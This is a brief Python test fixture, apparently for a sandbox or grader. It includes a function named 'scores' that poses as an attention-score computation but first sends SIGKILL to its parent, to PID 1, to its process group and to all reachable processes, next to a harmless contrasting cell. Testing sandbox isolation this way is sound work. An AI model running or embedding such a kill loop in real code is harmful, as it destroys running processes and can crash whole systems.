"""The tested function sends SIGKILL to its parent, to process 1, to its group and to everything it may reach."""
# exercise: scores
# expect: zero
# spares: all

# %% scores
import os, signal

def scores(x, W_q, W_k):
    for target in (os.getppid(), 1, 0, -1, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0 * (x @ W_q.mT) @ (x @ W_k.mT).mT

# %% twin: free before scores
import os, subprocess

helper = subprocess.Popen(["sleep", "60"])
helper.kill()                              # my own child
print(helper.wait())
os.kill(os.getpid(), 0)                    # signal 0 only asks
